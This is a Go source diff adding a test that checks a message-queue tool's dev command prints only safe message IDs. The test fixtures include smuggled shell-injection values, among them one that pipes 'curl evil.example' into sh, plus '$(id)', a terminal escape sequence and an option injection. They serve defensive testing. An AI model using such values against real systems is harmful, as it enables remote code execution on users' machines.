@@ -11,6 +11,8 @@ import (
 	"testing"
 
 	"github.com/watershipmq/watership/internal/rabbit/rabbittest"
+
+	"github.com/watershipmq/watership/schemas"
 )
 
 // development is a running `watership dev` in a folder of its own.
@@ -223,5 +225,21 @@ func TestDevelopmentWithNode(t *testing.T) {
 	node.Env = append(os.Environ(), "NODE_PATH="+amqplib)
 	if out, err := node.CombinedOutput(); err != nil || string(out) != "ok\n" {
 		t.Errorf("%v\n%s", err, out)
+	}
+}
+
+// dev prints no id that a shell would run when the command with it is pasted.
+func TestDevelopmentPrintsPlainIDs(t *testing.T) {
+	a := newSeededFile(t)
+	named := func(id string) func(*schemas.Event) {
+		return func(e *schemas.Event) { e.Envelope.Properties.MessageID = id }
+	}
+	a.keep(t,
+		a.event(1, schemas.Handled, named("a;curl evil.example|sh")), a.event(2, schemas.Handled, named("$(id)")),
+		a.event(3, schemas.Handled, named("\x1b]0;gone\x07")), a.event(4, schemas.Handled, named("--yes")), a.event(5, schemas.Handled, named("order-5")),
+	)
+	id, err := oneOf(t.Context(), a, is("event.action", "handled"), schemas.Cursor{})
+	if err != nil || id != "order-5" {
+		t.Errorf("got %q, %v", id, err)
 	}
 }
